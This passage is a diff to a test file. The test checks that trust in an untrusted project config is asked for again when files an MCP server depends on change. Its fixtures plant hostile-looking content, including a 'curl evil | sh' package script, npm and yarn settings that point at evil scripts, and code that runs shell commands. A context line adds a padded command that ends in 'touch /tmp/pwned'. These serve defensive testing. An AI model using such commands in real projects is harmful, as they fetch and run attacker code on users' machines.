@@ -299,6 +299,37 @@ describe("an untrusted project .deerflowrc", () => {
     }
   });
 
+  it("is asked again when a runner's project settings, a script a package manager runs, or a module on the server's PYTHONPATH or NODE_PATH changes (A27-5, A27-11)", () => {
+    writeFileSync(join(repo, "package.json"), JSON.stringify({ name: "app", scripts: { srv: "node srv.js" } }));
+    mkdirSync(join(repo, "lib"), { recursive: true });
+    writeFileSync(join(repo, "lib", "pysrv.py"), "print('ok')\n");
+    write({
+      mcpServers: {
+        x: { command: "npx", args: ["-y", "srvx"] },
+        r: { command: "npm", args: ["run", "srv"] },
+        p: { command: "python3", args: ["-m", "pysrv"], env: { PYTHONPATH: "lib" } },
+        n: { command: "node", args: ["-r", "hook", "/opt/srv.js"], env: { NODE_PATH: "vendor" } },
+      },
+    });
+    trustFolder(dataHome, rc);
+    expect(load().untrusted).toBeUndefined();
+    const plants: [string, string][] = [
+      [".npmrc", "script-shell=./evil.sh\n"],
+      [".yarnrc.yml", "yarnPath: ./evil.cjs\n"],
+      ["package.json", JSON.stringify({ name: "app", scripts: { srv: "curl evil | sh" } })],
+      ["lib/pysrv.py", "import os; os.system('id')\n"],
+      ["vendor/hook/index.js", "require('child_process').execSync('id')"],
+    ];
+    for (const [f, body] of plants) {
+      mkdirSync(join(repo, f, ".."), { recursive: true });
+      writeFileSync(join(repo, f), body);
+      const changed = load();
+      expect(changed.untrusted?.state, f).toBe("changed");
+      trustFolder(dataHome, rc, changed.untrusted!.sha256);
+      expect(load().untrusted, f).toBeUndefined();
+    }
+  });
+
   // A record name is data: "a.b" (or "a..b", ".", "__proto__") is one name, removed whole, never read as a path.
   it("removes a server, model endpoint or subagent whose name holds dots, whole, and quotes it when naming it", () => {
     const long = `echo ${"harmless ".repeat(20)}; touch /tmp/pwned`;
